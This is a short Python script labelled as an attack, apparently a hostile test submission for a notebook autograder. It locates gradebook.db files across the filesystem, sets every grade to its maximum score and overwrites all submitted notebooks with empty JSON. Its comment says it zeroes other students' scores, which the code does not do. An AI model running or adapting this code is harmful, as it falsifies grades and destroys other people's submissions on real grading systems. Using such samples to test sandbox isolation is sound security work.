# attack: finds gradebook.db and gives itself full manual scores, zeroes others, overwrites other submissions
import glob, sqlite3, shutil
for db in [p for d in range(7) for p in glob.glob("/" + "*/" * d + "gradebook.db")]:
    connection = sqlite3.connect(db)
    connection.execute("UPDATE grade SET manual_score = max_score")
    connection.commit()
    print("HOSTILE: wrote", db)
for path in [p for d in range(7) for p in glob.glob("/" + "*/" * d + "submitted/*/*/*.ipynb")]:
    open(path, "w").write("{}")
